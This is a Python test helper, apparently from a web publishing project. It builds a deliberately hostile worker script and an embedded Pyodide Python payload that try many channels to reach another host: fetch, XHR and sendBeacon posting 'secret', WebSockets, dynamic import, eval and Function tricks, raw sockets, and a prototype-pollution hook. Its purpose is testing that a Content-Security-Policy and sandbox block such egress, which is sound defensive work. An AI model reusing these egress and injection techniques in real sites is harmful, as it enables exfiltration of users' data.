"""A worker that tries to call out in every way that a browser knows.

Once as a script, before any fence is up: what the policy forbids, it forbids to all that runs there. And
once as Python, behind the fence.
"""

import http.server
import json
import re
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

from publishing import rewrite
from site_server import Answer, Behaviour

WAYS = (
    "fetch",
    "XMLHttpRequest",
    "WebSocket",
    "EventSource",
    "sendBeacon",
    "import",
    "nested worker",
    "worker of another host",
    "font",
)
"""How it tries, by the path that it asks for."""

ATTACK = """
(() => {
    const to = (way) => "OTHER" + encodeURIComponent(way);
    const nested = (way) => URL.createObjectURL(new Blob([`fetch("${to(way)}", { mode: "no-cors" })`]));
    const ways = {
        fetch: (at) => fetch(at, { mode: "no-cors" }),
        XMLHttpRequest: (at) => {
            const request = new XMLHttpRequest();
            request.open("POST", at);
            request.send("secret");
        },
        WebSocket: (at) => new WebSocket(at.replace("http", "ws")),
        EventSource: (at) => new EventSource(at),
        sendBeacon: (at) => navigator.sendBeacon(at, "secret"),
        import: (at) => import(at),
        "nested worker": (at, way) => new Worker(nested(way)),
        "worker of another host": (at) => new Worker(at, { type: "module" }),
        font: (at) => new FontFace("other", `url(${at})`).load(),
    };
    const tried = [];
    for (const [way, attempt] of Object.entries(ways)) {
        tried.push(way);
        try { Promise.resolve(attempt(to(way), way)).catch(() => {}); } catch {}
    }
    setTimeout(() => new BroadcastChannel("attack").postMessage(tried), 1500);
})();
"""

PYTHON = """
import js

tried = []

def request(at):
    one = js.XMLHttpRequest.new()
    one.open("POST", at)
    one.send("secret")

def opened(at):
    import urllib.request
    urllib.request.urlopen(at)

def connected(at):
    import socket
    host, _, port = at.split("/")[2].partition(":")
    socket.create_connection((host, int(port))).sendall(b"GET /socket HTTP/1.0")

def pyfetch(at):
    from pyodide.http import open_url
    open_url(at)

def run_js(at):
    from pyodide.code import run_js
    run_js(f"import('{at}')")

def image(at):
    js.Image.new().src = at

ways = {
    "fetch": lambda at: js.fetch(at),
    "XMLHttpRequest": request,
    "WebSocket": lambda at: js.WebSocket.new(at.replace("http", "ws")),
    "EventSource": lambda at: js.EventSource.new(at),
    "sendBeacon": lambda at: js.navigator.sendBeacon(at, "secret"),
    "eval": lambda at: js.eval(f"import('{at}')"),
    "Function": lambda at: js.Function.new(f"return import('{at}')")(),
    "constructor": lambda at: js.self.postMessage.constructor(f"return import('{at}')")(),
    "timer": lambda at: js.setTimeout(f"import('{at}')", 0),
    "run_js": run_js,
    "nested worker": lambda at: js.Worker.new(at),
    "image": image,
    "font": lambda at: js.FontFace.new("other", f"url({at})").load(),
    "importScripts": lambda at: js.importScripts(at),
    "urllib": opened,
    "socket": connected,
    "open_url": pyfetch,
}
for way, act in ways.items():
    tried.append(way)
    try:
        act("OTHER" + way.replace(" ", "%20"))
    except BaseException:
        pass
js.BroadcastChannel.new("attack").postMessage(",".join(tried))
"""
"""What Python could try."""

PYTHON_WAYS = tuple(re.findall(r'^    "([\w ]+)": ', PYTHON, re.MULTILINE))

STARTED = '.pyimport("followup.app")'
"""In the worker's script: Python is up, and the program is opened."""

FENCED = "fetch fetchLater XMLHttpRequest"
"""How the list begins there of what the fence takes away."""

HEAR = "<script>new BroadcastChannel('attack').onmessage = ({ data }) => { self.tried = String(data); };</script>"
"""For the pages, before their policy, which runs no such script."""

POLICY = 'http-equiv="Content-Security-Policy"'

Attack = Callable[[str], str]
"""Makes a hostile script of that of the worker."""


@contextmanager
def other_host() -> Iterator[tuple[str, list[str]]]:
    """Yield the address of another host, and the paths that it is asked for."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def handle(self) -> None:
            line = self.rfile.readline().decode("latin-1")
            path = line.split(" ")[1].lstrip("/") if " " in line else line
            asked.append(path.replace("%20", " "))

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://localhost:{server.server_port}/", asked
    server.shutdown()
    server.server_close()


def by_script(other: str) -> Attack:
    """Return an attack on another host that is a script, and comes before everything else."""
    return lambda worker: ATTACK.replace("OTHER", other) + worker


def by_python(other: str, *, has_fence: bool = True) -> Attack:
    """Return an attack on another host that is Python, behind the fence or without one."""

    def attack(worker: str) -> str:
        assert worker.count(STARTED) == worker.count(FENCED) == 1
        python = json.dumps(PYTHON.replace("OTHER", other))
        does = f"value() {{ this.runPython({python}); return this; }}"
        first = f'Object.defineProperty(Object.prototype, "attacked", {{ {does} }});'
        fenced = worker if has_fence else re.sub(f'"{FENCED}[^"]*"', '"nothing"', worker)
        return first + fenced.replace(STARTED, f".attacked(){STARTED}")

    return attack


def hostile(attack: Attack, *, has_policy: bool = True) -> Behaviour:
    """Return a host whose worker attacks another one; its pages have their policy, or none."""

    def behave(_name: str, file: Path) -> Answer | None:
        text = changed(file, attack, has_policy=has_policy)
        kind = "text/html; charset=utf-8" if file.suffix == ".html" else "text/javascript"
        return None if text is None else Answer(200, text.encode(), {"Content-Type": kind})

    return behave


def make_hostile(site: Path, attack: Attack) -> None:
    """Change a copy of the site in the same way, as if it had been published so."""
    for file in (*site.rglob("*.html"), *site.rglob("worker.js")):
        text = changed(file, attack)
        if text is not None:
            rewrite(file, text)


def changed(file: Path, attack: Attack, *, has_policy: bool = True) -> str | None:
    """Return the text of a file that is not as it was published, or None if it is."""
    if not file.is_file():
        return None
    if file.name == "worker.js":
        return attack(file.read_text("utf-8"))
    if file.suffix != ".html":
        return None
    page = file.read_text("utf-8").replace("<head>", f"<head>{HEAR}", 1)
    return page if has_policy else page.replace(POLICY, "", 1)
